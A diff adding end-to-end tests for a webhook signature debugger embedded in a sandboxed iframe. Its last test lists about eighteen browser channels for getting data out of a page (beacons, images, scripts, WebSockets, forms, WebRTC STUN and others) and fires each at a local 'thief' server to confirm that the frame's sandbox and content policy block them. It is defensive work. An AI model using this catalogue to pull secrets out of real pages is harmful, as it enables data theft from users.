@@ -1,0 +1,462 @@
+import { createSocket } from 'node:dgram'
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
+import { createServer } from 'node:net'
+import { join } from 'node:path'
+import { performance } from 'node:perf_hooks'
+import { gzipSync } from 'node:zlib'
+import type { Scheme } from '@webhook-receiver/core'
+import { contract } from '@webhook-receiver/core/internal'
+import * as services from '@webhook-receiver/schemes'
+import { schemeValueOf, withMistake } from '@webhook-receiver/schemes/neighbours'
+import type { Frame, Page } from 'playwright-core'
+import { build } from 'vite'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { atEnd, serve } from '../setup.ts'
+import { barriers, CHROMIUM, closeTab, openTab } from './browser.ts'
+
+const PAGE = new URL('../../debugger/', import.meta.url).pathname
+const SITE = new URL('../../../../workshop/site/.vitepress/', import.meta.url).pathname
+
+let html = ''
+let folder = ''
+beforeAll(async () => {
+  folder = await mkdtemp(join(import.meta.dirname, '.debugger-'))
+  const configFile = join(PAGE, 'vite.config.ts')
+  await build({ configFile, build: { outDir: folder } })
+  html = await readFile(join(folder, 'index.html'), 'utf8')
+})
+afterAll(() => rm(folder, { recursive: true }))
+
+/** A page with the frame, as the site has it: with the attributes that its sources name. */
+async function openDebugger(fragment = '', options = {}) {
+  const component = await readFile(join(SITE, 'theme/debugger.js'), 'utf8')
+  const config = await readFile(join(SITE, 'config.mjs'), 'utf8')
+  const [, sandbox] = /sandbox: '(.*)'/.exec(component) ?? []
+  const [, allow] = /allow: '(.*)'/.exec(component) ?? []
+  const [, policy] = /content: "(frame-src .*)"/.exec(config) ?? []
+  const around = `<!doctype html><html lang="en"><title>Site</title>
+<meta http-equiv="Content-Security-Policy" content="${policy}">
+<main><h1>Site</h1><iframe title="Debugger" sandbox="${sandbox}" allow="${allow}"
+  style="width:100%;height:1400px;border:0" src="/debugger-frame.html${fragment}"></iframe></main>`
+  const url = await serve((req, res) => {
+    res.setHeader('Content-Type', 'text/html; charset=utf-8')
+    res.end(req.url?.startsWith('/debugger-frame') ? html : around)
+  })
+  const tab = await openTab(url, options)
+  const frame = tab.page.frames().find((each) => each.url().includes('debugger-frame'))
+  if (!frame) throw new Error('There is no frame.')
+  await frame.getByLabel('Headers').waitFor()
+  return { ...tab, frame, url }
+}
+
+const SECRET = 'MDEyMzQ1Njc4OWFiY2RlZjAxMjM0NTY3ODlhYmNkZWY='
+const TIME = 1_795_392_000_000
+const PUBLIC_URL = 'https://example.com/webhooks?tenant=7'
+const CONTENT = { text: 'é $& 👋', amount: 1.5, list: [1, 2] }
+
+/** A secret that is what the scheme takes. */
+function secretOf(scheme: Scheme): string {
+  const [{ secret = 'text', secretPrefix = '' } = {}] = schemeValueOf(scheme)?.keys ?? []
+  return secretPrefix + (secret === 'hex' ? Buffer.from(SECRET).toString('hex') : SECRET)
+}
+
+async function signed(scheme: Scheme, secret = secretOf(scheme), mistake?: string) {
+  const signer = mistake ? withMistake(scheme, mistake) : scheme
+  const parts = { id: 'evt_1', event: 'order.paid', time: TIME, url: PUBLIC_URL }
+  const body = scheme.compose?.(CONTENT, parts) ?? new Uint8Array()
+  const headers = await signer.sign?.(
+    await signer.importKey(secret, 'The secret'),
+    Uint8Array.from(body),
+    parts,
+  )
+  return { headers: { ...headers }, body: Buffer.from(body).toString(), secret }
+}
+
+type Request = Awaited<ReturnType<typeof signed>>
+
+const { hubspot, linear, openai, shopify, slack, square, stripe, twilio, github } = services
+
+/** What goes wrong here, by the cause that it is; every other cause is a mistake of the sender. */
+const HERE: Readonly<Record<string, (request: Request) => Partial<Request>>> = {
+  secret_quoted: ({ secret }) => ({ secret: `"${secret}"` }),
+  secret_white_space: ({ secret }) => ({ secret: `${secret}\n` }),
+  secret_encoded: ({ secret }) => ({ secret: encodeURIComponent(secret) }),
+  body_final_newline: ({ body }) => ({ body: `${body}\n` }),
+  body_reserialized: ({ body }) => ({ body: JSON.stringify(JSON.parse(body), null, 2) }),
+  body_keys_sorted: ({ body }) => ({
+    body: JSON.stringify(Object.fromEntries(Object.entries(JSON.parse(body)).sort())),
+  }),
+  body_escapes: ({ body }) => ({ body: body.replace('é', '\\u00e9') }),
+  body_base64: ({ body }) => ({ body: Buffer.from(body).toString('base64') }),
+  body_quoted: ({ body }) => ({ body: JSON.stringify(body) }),
+  body_lossy: ({ body }) => ({ body: body.replace('👋', '\uFFFD') }),
+  header_renamed: ({ headers }) => ({
+    headers: Object.fromEntries(
+      Object.entries(headers).map(([name, value]) => [`x-amzn-remapped-${name}`, value]),
+    ),
+  }),
+}
+
+/** Three wrong requests of each of ten services, by their cause. */
+const WRONG: readonly (readonly [scheme: Scheme, ...codes: string[]])[] = [
+  [stripe, 'body_reserialized', 'message_without_timestamp', 'secret_quoted'],
+  [github, 'body_final_newline', 'signature_prefix_missing', 'header_renamed'],
+  [slack, 'secret_white_space', 'message_separator', 'body_final_newline'],
+  [shopify, 'body_base64', 'signature_encoding', 'secret_quoted'],
+  [openai, 'body_reserialized', 'message_without_header', 'secret_white_space'],
+  [twilio, 'message_body_alone', 'secret_quoted', 'message_form_as_sent'],
+  [square, 'message_body_alone', 'body_final_newline', 'signature_encoding'],
+  [hubspot, 'message_without_url', 'body_quoted', 'message_without_timestamp'],
+  [linear, 'signature_encoding', 'body_reserialized', 'signature_other_hash'],
+  [contract, 'message_body_alone', 'body_final_newline', 'signature_other_hash'],
+] as readonly (readonly [Scheme, ...string[]])[]
+
+async function wrongRequest(scheme: Scheme, code: string): Promise<Request> {
+  const change = HERE[code]
+  const request = await signed(scheme, secretOf(scheme), change ? undefined : code)
+  return { ...request, ...change?.(request) }
+}
+
+async function paste(frame: Frame, scheme: Scheme, { headers, body, secret }: Request) {
+  await frame.getByRole('combobox').selectOption(scheme.name)
+  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}`)
+  await frame.getByLabel('Headers').fill(lines.join('\n'))
+  await frame.getByRole('textbox', { name: /^Body/ }).fill(body)
+  if (scheme.signsUrl) await frame.getByRole('textbox', { name: /^URL/ }).fill(PUBLIC_URL)
+  await frame.locator('textarea.masked').fill(secret)
+}
+
+describe.skipIf(CHROMIUM === undefined)('the debugger', () => {
+  it('names the cause of 30 wrong requests of ten services', async () => {
+    const { page, frame, problems } = await openDebugger()
+    const rows: (readonly unknown[])[] = []
+    for (const [scheme, ...codes] of WRONG) {
+      for (const code of codes) {
+        const request = await wrongRequest(scheme, code)
+        await frame
+          .getByRole('button', { name: 'Clear' })
+          .click({ timeout: 500 })
+          .catch(() => {})
+        const since = performance.now()
+        await paste(frame, scheme, request)
+        const found = frame.locator('.outcome code').first()
+        await expect
+          .poll(() => found.textContent({ timeout: 1000 }).catch(() => ''), {
+            message: `${scheme.name}: ${code}`,
+          })
+          .toBe(code)
+        rows.push([scheme.name, code, Math.round(performance.now() - since)])
+        expect(await frame.locator('.outcome').textContent()).toContain('certain')
+      }
+    }
+    if (process.env.EVERYTHING) console.table(rows)
+    expect(rows).toHaveLength(30)
+    // That a secret lacks its prefix is also said in the console.
+    expect(problems.filter((text) => !text.startsWith('[webhook-receiver]'))).toEqual([])
+    await closeTab({ page })
+  })
+
+  it('shows what is signed, and marks the first byte that differs', async () => {
+    const { page, frame } = await openDebugger()
+    const request = await signed(stripe)
+    await paste(frame, stripe, request)
+    await frame.getByText('✓ valid').waitFor()
+    expect(await frame.locator('pre.text .part').allTextContents()).toEqual([
+      ...[String(TIME / 1000), '.', request.body],
+    ])
+    await frame.getByRole('textbox', { name: /^Body/ }).fill(request.body.replace(':', ': '))
+    const caret = await frame.locator('pre.caret').textContent()
+    const at = `${TIME / 1000}.${request.body}`.indexOf(':') + 1
+    expect(caret).toContain(`^ byte ${at}`)
+    const lines = caret?.split('\n') ?? []
+    expect(lines[3]?.[lines[4]?.indexOf('^') ?? 0]).toBe(' ')
+    await closeTab({ page })
+  })
+
+  it.each([
+    [
+      'a capture',
+      ({ headers, body }: Request) =>
+        JSON.stringify({
+          ...{ format: 'webhook-receiver-capture', version: 1, method: 'POST', target: '/stripe' },
+          received_at: new Date(TIME).toISOString(),
+          headers: Object.entries(headers),
+          body: { text: body },
+        }),
+    ],
+    [
+      'a curl command',
+      ({ headers, body }: Request) =>
+        `curl -X POST 'https://example.com/stripe' \\\n${Object.entries(headers)
+          .map(([name, value]) => `  -H '${name}: ${value}' \\\n`)
+          .join('')}  --data-raw $'${body.replaceAll('\\', '\\\\').replaceAll("'", "\\'")}'`,
+    ],
+    [
+      'HTTP',
+      ({ headers, body }: Request) =>
+        `POST /stripe HTTP/1.1\r\n${Object.entries(headers)
+          .map(([name, value]) => `${name}: ${value}\r\n`)
+          .join('')}\r\n${body}`,
+    ],
+  ])('reads %s, and recognises the service', async (_, text) => {
+    const { page, frame } = await openDebugger('#github')
+    const request = await signed(stripe)
+    await frame.getByLabel('Headers').fill(text(request))
+    await frame.locator('textarea.masked').fill(request.secret)
+    await frame.getByText('✓ valid').waitFor()
+    expect(await frame.getByRole('combobox').inputValue()).toBe('stripe')
+    await closeTab({ page })
+  })
+
+  it('reads headers as a server prints them', async () => {
+    const { page, frame } = await openDebugger()
+    const { headers, body, secret } = await signed(stripe)
+    const printed = [JSON.stringify(headers), JSON.stringify(Object.entries(headers))]
+    const node = Object.entries(headers).map(([name, value]) => `  '${name}': '${value}',`)
+    for (const text of [...printed, `{\n${node.join('\n')}\n}`]) {
+      await frame.getByLabel('Headers').fill('')
+      await frame.getByLabel('Headers').fill(text)
+      await frame.getByRole('textbox', { name: /^Body/ }).fill(body)
+      await frame.locator('textarea.masked').fill(secret)
+      await frame.getByText('✓ valid').waitFor()
+      expect(await frame.getByRole('combobox').inputValue()).toBe('stripe')
+    }
+    await closeTab({ page })
+  })
+
+  it('copies a test that runs, and a link without the secret', async () => {
+    const { page, frame } = await openDebugger()
+    const request = await signed(stripe)
+    await paste(frame, stripe, request)
+    await frame.getByText('✓ valid').waitFor()
+    const copied = async (name: string, what: string) => {
+      await frame.getByRole('button', { name }).click()
+      await frame.getByText(`Copied: ${what}`).waitFor()
+      return page.evaluate(() => navigator.clipboard.readText())
+    }
+    const code = await copied('Copy as test', 'a test')
+    expect(code).not.toContain(request.secret)
+    process.env.STRIPE_WEBHOOK_SECRET = request.secret
+    const file = join(folder, 'copied.ts')
+    const running = `import { expect } from 'vitest'\nlet run\nconst test = (_, work) => (run = work)`
+    await writeFile(
+      file,
+      `${code.replace("import { expect, test } from 'vitest'", running)}\nexport default run\n`,
+    )
+    await (await import(file)).default()
+
+    const link = new URL(await copied('Copy link', 'a link'))
+    expect(
+      decodeURIComponent(atob(decodeURIComponent(link.hash.split('=')[1] ?? ''))),
+    ).not.toContain(request.secret)
+    const other = await openDebugger(link.hash)
+    await other.frame.locator('textarea.masked').fill(request.secret)
+    await other.frame.getByText('✓ valid').waitFor()
+    await closeTab(other)
+    await closeTab({ page })
+  })
+
+  it('is filled by the link of a log line, and keeps nothing', async () => {
+    const { page, frame, problems } = await openDebugger('#slack/signature_mismatch')
+    expect(await frame.getByRole('combobox').inputValue()).toBe('slack')
+    await paste(frame, slack, await signed(slack))
+    await frame.getByText('✓ valid').waitFor()
+    await page.reload()
+    const again = page.frameLocator('iframe').getByLabel('Headers')
+    await again.waitFor()
+    expect(await again.inputValue()).toBe('')
+    expect(problems).toEqual([])
+    await closeTab({ page })
+  })
+
+  it.each([
+    ['a desktop in light', { colorScheme: 'light' as const }, ''],
+    ['a desktop in dark', { colorScheme: 'dark' as const }, '&theme=dark'],
+    ['a phone', { viewport: { width: 390, height: 844 } }, ''],
+  ])('has no barriers on %s', async (_, options, theme) => {
+    const { page, frame, problems } = await openDebugger(`#stripe?example${theme}`, options)
+    await frame.getByText('body_reserialized').waitFor()
+    expect(await barriers(page)).toEqual([])
+    expect(await barriers(frame)).toEqual([])
+    expect(await frame.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(
+      await frame.evaluate(() => window.innerWidth),
+    )
+    expect(problems).toEqual([])
+    await closeTab({ page })
+  })
+
+  it('works from the keyboard', async () => {
+    const { page, frame } = await openDebugger()
+    const { headers, body, secret } = await signed(stripe)
+    await frame.getByRole('combobox').focus()
+    const type = async (text: string, tabs: number) => {
+      for (let at = 0; at < tabs; at++) await page.keyboard.press('Tab')
+      await page.keyboard.insertText(text)
+    }
+    // Behind the service is the button of the example, behind the body that of the file.
+    await type(
+      Object.entries(headers)
+        .map(([name, value]) => `${name}: ${value}`)
+        .join('\n'),
+      2,
+    )
+    await type(body, 1)
+    await type(secret, 2)
+    await frame.getByText('✓ valid').waitFor()
+    expect(await frame.locator('textarea.masked').inputValue()).toBe(secret)
+    await closeTab({ page })
+  })
+
+  it('weighs less than 100 kB', () => {
+    const size = gzipSync(html).length
+    if (process.env.EVERYTHING) console.log(`The debugger has ${size} bytes, gzipped.`)
+    expect(size).toBeLessThan(100_000)
+  })
+})
+
+/** Ways out of a page for what it knows. Each gets an address that only it names. */
+const WAYS: Readonly<Record<string, (to: string) => unknown>> = {
+  fetch: (to) => fetch(to, { mode: 'no-cors' }),
+  beacon: (to) => navigator.sendBeacon(to, 'x'),
+  image: (to) => {
+    new Image().src = to
+  },
+  script: (to) => {
+    const script = document.createElement('script')
+    script.src = to
+    document.head.append(script)
+  },
+  style: (to) => {
+    document.body.style.backgroundImage = `url(${to})`
+  },
+  preload: (to) => {
+    for (const rel of ['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'modulepreload']) {
+      const link = Object.assign(document.createElement('link'), { rel, href: to })
+      link.setAttribute('as', 'script')
+      document.head.append(link)
+    }
+  },
+  form: (to) => {
+    const form = Object.assign(document.createElement('form'), { action: to, method: 'post' })
+    document.body.append(form)
+    form.submit()
+  },
+  frame: (to) => {
+    const frame = Object.assign(document.createElement('iframe'), { src: to })
+    document.body.append(frame)
+  },
+  'window.open': (to) => window.open(to),
+  download: (to) => {
+    const link = Object.assign(document.createElement('a'), { href: to, download: 'x' })
+    document.body.append(link)
+    link.click()
+  },
+  link: (to) => {
+    const link = Object.assign(document.createElement('a'), { href: to, target: '_blank' })
+    document.body.append(link)
+    link.click()
+  },
+  top: (to) => {
+    if (window.top) window.top.location.href = to
+  },
+  socket: (to) => new WebSocket(to.replace('http', 'ws')),
+  events: (to) => new EventSource(to),
+  worker: (to) => {
+    const code = new Blob([`fetch(${JSON.stringify(to)}, { mode: 'no-cors' })`])
+    return new Worker(URL.createObjectURL(code))
+  },
+  module: (to) => {
+    const script = Object.assign(document.createElement('script'), { src: to, type: 'module' })
+    document.head.append(script)
+  },
+  refresh: (to) => {
+    const meta = Object.assign(document.createElement('meta'), { content: `0;url=${to}` })
+    meta.httpEquiv = 'refresh'
+    document.head.append(meta)
+  },
+  location: (to) => {
+    location.href = to
+  },
+}
+
+/** Those by which a frame would go elsewhere. */
+const NAVIGATES = ['frame', 'refresh', 'location', 'link', 'download']
+
+/** That somebody has connected, without any byte. */
+const EMPTY = 'a connection'
+
+describe.skipIf(CHROMIUM === undefined)('a secret in the debugger', () => {
+  it('does not leave it, whatever its script does', async () => {
+    const seen: string[] = []
+    const thief = createServer((socket) => {
+      socket.on('error', () => {})
+      socket.once('data', (data) => seen.push(String(data).split('\r\n')[0] ?? ''))
+      seen.push(EMPTY)
+      socket.setTimeout(100, () => socket.destroy())
+    })
+    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', () => resolve()))
+    atEnd(() => thief.close())
+    const address = thief.address()
+    const port = typeof address === 'object' && address ? address.port : 0
+    const stun = createSocket('udp4')
+    stun.on('message', () => seen.push('a datagram'))
+    await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', () => resolve()))
+    atEnd(() => stun.close())
+
+    /** Runs in the page, whose policy does not bind what a test evaluates: only what that asks for. */
+    const attempt = async (target: Page | Frame, name: string) => {
+      const to = JSON.stringify(`http://127.0.0.1:${port}/${name.replace('.', '-')}`)
+      const ran = target.evaluate(`document.title = ${to}; (${WAYS[name]})(${to}); 'ran'`)
+      return ran.catch((error: Error) => error.message)
+    }
+    const rtc = (target: Page | Frame, isNested: boolean) =>
+      target.evaluate(
+        async ([server, nested]) => {
+          const frame = document.createElement('iframe')
+          document.body.append(frame)
+          const from = nested ? frame.contentWindow : globalThis
+          const Connection = Reflect.get(from ?? {}, 'RTCPeerConnection')
+          if (!Connection) return 'absent'
+          const connection = new Connection({ iceServers: [{ urls: server }] })
+          connection.createDataChannel('x')
+          await connection.setLocalDescription(await connection.createOffer())
+          return 'begun'
+        },
+        [`stun:127.0.0.1:${stun.address().port}`, isNested] as const,
+      )
+
+    // Each way is open where nothing stops it, or this test would show nothing.
+    const open: string[] = []
+    for (const name of Object.keys(WAYS)) {
+      const url = await serve((_, res) => res.setHeader('Content-Type', 'text/html').end('<p>'))
+      const { page } = await openTab(url)
+      seen.length = 0
+      await attempt(page, name)
+      await expect.poll(() => seen.length, { message: name }).toBeGreaterThan(0)
+      open.push(name)
+      await closeTab({ page })
+    }
+    expect(open).toEqual(Object.keys(WAYS))
+    const plain = await openTab(await serve((_, res) => res.end()))
+    for (const isNested of [false, true]) expect(await rtc(plain.page, isNested)).toBe('begun')
+    await closeTab(plain)
+    seen.length = 0
+
+    for (const name of Object.keys(WAYS)) {
+      const { page, frame, url } = await openDebugger()
+      await paste(frame, stripe, await signed(stripe))
+      await frame.getByText('✓ valid').waitFor()
+      expect(await rtc(frame, false)).toBe('absent')
+      await expect(rtc(frame, true)).rejects.toThrow(/cross-origin/)
+      expect(await attempt(frame, name)).toMatch(/^ran$|sandbox|policy|navigate|origin/i)
+      // What was begun before has arrived by now, if it arrives at all.
+      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)))
+      expect(new URL(page.url()).origin).toBe(new URL(url).origin)
+      await closeTab({ page })
+      // Chromium connects before it asks the policy whether a frame may go there; it then sends nothing.
+      const sent = NAVIGATES.includes(name) ? seen.filter((text) => text !== EMPTY) : seen
+      expect(sent, name).toEqual([])
+      seen.length = 0
+    }
+  })
+})
